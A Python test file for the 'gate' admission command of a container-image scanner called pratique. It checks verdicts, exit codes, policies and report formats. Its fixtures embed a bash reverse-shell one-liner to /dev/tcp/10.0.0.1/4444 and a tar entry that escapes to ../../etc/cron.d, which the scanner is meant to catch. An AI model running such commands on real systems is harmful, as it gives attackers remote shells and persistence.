"""`pratique gate` over archives, without an engine and without the sandbox: verdict, exit code, documents."""

import json
import os
import time
from pathlib import Path

import pytest

from pratique.pipelines.gate import Question, ask
from pratique.pipelines.scan import scan_file
from pratique.policy import Document, ImagePolicy, render
from pratique.store import Store
from tests.unit.cli.conftest import Run
from tests.unit.image.archives import archive, entry, tar, write
from tests.unit.report.test_formats import check_junit, check_sarif

CLEAN = tar(entry("etc/hello", b"hello"))
EVIL = tar(entry("x.sh", b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"))
ESCAPING = tar(entry("../../etc/cron.d/x", b"* * * * * root true"), entry("etc/hello", b"hello"))


@pytest.mark.usefixtures("host")
@pytest.mark.parametrize(
    ("layer", "words", "code", "verdict"),
    [
        (CLEAN, [], 0, "PASSED"),
        (EVIL, [], 2, "REFUSED"),
        (CLEAN, ["--fail-on", "misconfiguration"], 2, "REFUSED"),
        (ESCAPING, [], 3, "INCOMPLETE"),
        (CLEAN, ["--fail-on", "high"], 3, "INCOMPLETE"),
        (ESCAPING, ["--fail-on", "misconfiguration"], 2, "REFUSED"),
    ],
)
def test_verdict_and_exit_code(
    tmp_path: Path, pratique: Run, layer: bytes, words: list[str], code: int, verdict: str
) -> None:
    done, out, err = pratique("gate", "--no-detonate", *words, str(write(archive([layer]), tmp_path)))
    assert (done, err) == (code, "")
    assert out.startswith(f"{verdict}  ")
    assert ("\n  - " in out) is (code != 0)


@pytest.mark.usefixtures("host")
def test_policy_file_decides(tmp_path: Path, pratique: Run) -> None:
    image = str(write(archive([EVIL]), tmp_path))
    policy = tmp_path / "policy.yaml"
    policy.write_text("admission: {fail_on: [secret]}")
    code, out, _ = pratique("gate", "--no-detonate", "--policy", str(policy), image)
    assert code == 0
    assert f"{policy}: refuses secret" in out
    policy.write_text("admission: {fail_on: [secret], require: {detonated: clean}}")
    code, out, _ = pratique("gate", "--no-detonate", "--policy", str(policy), image)
    assert code == 3
    assert "the policy requires that it was run in the sandbox" in out
    policy.write_text("admission: {fail_on: everything}")
    assert pratique("gate", "--policy", str(policy), image)[0] == 1


def test_hosts_own_policy_is_the_default(host: Path, tmp_path: Path, pratique: Run) -> None:
    (host / "state").mkdir()
    (host / "state" / "policy.yaml").write_text("admission: {fail_on: [misconfiguration]}")
    code, out, _ = pratique("gate", "--no-detonate", str(write(archive([CLEAN]), tmp_path)))
    assert code == 2
    assert "policy.yaml: refuses misconfiguration" in out


@pytest.mark.usefixtures("host")
def test_documents_hold_the_verdict(tmp_path: Path, pratique: Run) -> None:
    image = str(write(archive([EVIL]), tmp_path))
    files = {form: tmp_path / f"report.{form}" for form in ("sarif", "junit", "json", "markdown", "html")}
    wanted = [word for form, file in files.items() for word in ("-f", f"{form}={file}")]
    assert pratique("gate", "--no-detonate", *wanted, image)[0] == 2
    check_sarif(files["sarif"].read_text())
    failing = [
        case for case in check_junit(files["junit"].read_text()).iter("testcase") if case.find("failure") is not None
    ]
    assert [case.attrib["classname"] for case in failing] == ["pratique.malware"]
    gate = json.loads(files["json"].read_text())["gate"]
    assert gate["passed"] is False
    assert gate["reasons"][0].startswith("malware: ")
    assert "does not pass" in files["markdown"].read_text()
    assert "does not pass" in files["html"].read_text()


@pytest.mark.usefixtures("host")
def test_document_on_standard_output_stands_alone(tmp_path: Path, pratique: Run) -> None:
    code, out, err = pratique("gate", "--no-detonate", "-f", "json", str(write(archive([CLEAN]), tmp_path)))
    assert code == 0
    assert json.loads(out)["gate"] == {"passed": True, "reasons": []}
    assert err.startswith("PASSED  ")


@pytest.mark.usefixtures("host")
def test_summary_of_a_job_is_added_to(tmp_path: Path, pratique: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    summary = tmp_path / "summary.md"
    summary.write_text("before\n")
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    pratique("gate", "--no-detonate", str(write(archive([EVIL]), tmp_path)))
    text = summary.read_text()
    assert text.startswith("before\n## ❌ Pratique: ")
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path))
    code, _, err = pratique("gate", "--no-detonate", str(write(archive([CLEAN]), tmp_path)))
    assert code == 0
    assert "cannot be written" in err


def test_condemned_image_and_its_kin_are_refused(host: Path, tmp_path: Path, pratique: Run) -> None:
    payload = [entry(f"opt/{number}", os.urandom(5000)) for number in range(20)]
    first = write(archive([tar(*payload)]), tmp_path)
    with Store.open(host / "state" / "pratique.db") as store:
        report = scan_file(first, learn=lambda fingerprint: store.families.put(fingerprint, fingerprint.elements()))
        store.put_report(report)
        store.families.condemn(report.image.id, time.time(), "it mined", "detonation")
    code, out, _ = pratique("gate", "--no-detonate", str(first))
    assert code == 2
    assert "it is condemned for: it mined" in out
    again = tmp_path / "again"
    again.mkdir()
    kin = write(archive([tar(*payload[::-1]), tar(entry("new", b"x"))]), again)
    code, out, _ = pratique("gate", "--no-detonate", str(kin))
    assert code == 2
    assert "  family     kin of" in out
    vouched = Document(images=(ImagePolicy(name="x", ids=(scan_file(kin).image.id,)),))
    (host / "policy.yaml").write_text(render(vouched))
    assert pratique("gate", "--no-detonate", "--policy", str(host / "policy.yaml"), str(kin))[0] == 0


@pytest.mark.usefixtures("host")
def test_without_root_what_it_does_is_not_known(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, pratique: Run) -> None:
    monkeypatch.setattr("os.geteuid", lambda: 1000)
    code, out, _ = pratique("gate", str(write(archive([CLEAN]), tmp_path)))
    assert code == 3
    assert out.startswith("INCOMPLETE")
    assert "not known: how it behaves: detonating an image takes root" in out


@pytest.mark.usefixtures("host")
@pytest.mark.parametrize("words", [["--for", "0s"], ["--for", "2h"], ["--policy", "/nowhere"], ["-f", "yaml"]])
def test_what_cannot_be_asked_is_an_error(tmp_path: Path, pratique: Run, words: list[str]) -> None:
    assert pratique("gate", *words, str(write(archive([CLEAN]), tmp_path)))[0] == 1


def test_many_findings_are_told_by_number(tmp_path: Path) -> None:
    layer = tar(*(entry(f"{number}.sh", b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1") for number in range(15)))
    answer = ask(write(archive([layer]), tmp_path), Question(Document()))
    assert len(answer.judgement.reasons) == 11
    assert answer.judgement.reasons[-1] == "and 5 more findings of these kinds"
    assert answer.behaviour == "not run: it is refused already"
